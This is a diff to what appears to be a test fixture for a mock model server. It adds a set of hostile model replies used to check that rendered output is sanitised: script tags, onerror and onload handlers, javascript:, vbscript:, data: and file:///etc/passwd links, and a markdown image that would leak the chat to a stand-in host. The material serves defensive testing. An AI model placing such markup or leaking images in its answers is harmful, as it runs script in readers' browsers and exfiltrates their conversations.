@@ -56,6 +56,25 @@ export const BULLETS = [
   "- Led 4,812 engineers through the split of the booking monolith [W1]",
   "- Introduced contract tests that caught 31 breaking changes before release [W1]",
 ].join("\n");
+/** What a model would write that was turned against its reader. The two links with a host may be links. */
+export const HOSTILE = [
+  "<script>window.ran = 'a script'</script>",
+  "<img src=x onerror=\"window.ran = 'a handler'\">",
+  '<a href="https://elsewhere.example/raw">raw</a> <svg onload="window.ran = \'svg\'"></svg>',
+  "",
+  "![chat](https://elsewhere.example/leak.png?chat=all) ![x](data:image/svg+xml;base64,PHN2Zy8+)",
+  "",
+  "[one](javascript:window.ran='link') [two](JaVaScRiPt:window.ran='link') [three](\tjavascript:x)",
+  "[four](data:text/html,<script>1</script>) [five](vbscript:x) [six](//elsewhere.example/other)",
+  "[seven](file:///etc/passwd) <javascript:window.ran='link'> [eight](blob:https://elsewhere.example/x)",
+  "",
+  "[our help page](https://elsewhere.example/trap) and https://elsewhere.example/bare",
+  "",
+  "[ref]: javascript:window.ran='link'",
+  "[nine][ref]",
+  "",
+  "The end of it.",
+].join("\n");
 export const MULTIBYTE = "Zürich, naïve façade, 履歴書, кириллица, 👩‍💻 and 🏳️‍🌈 arrive whole.";
 
 /** What a second look finds in the usual answer. */
@@ -128,6 +147,7 @@ const BEHAVIOURS: Record<string, (params: Params, call: CallFacts) => Reply> = {
     const all = texts(INVENTED);
     return answer([...all.slice(0, -1), { do: "gate", key }, ...all.slice(-1)]);
   },
+  hostile: () => answer(texts(HOSTILE)),
   bullets: () => answer(texts(BULLETS)),
   error: ({ status = "500", ...more }) => failure(Number(status), more),
   once: ({ status = "500", ...more }, { earlier }) =>
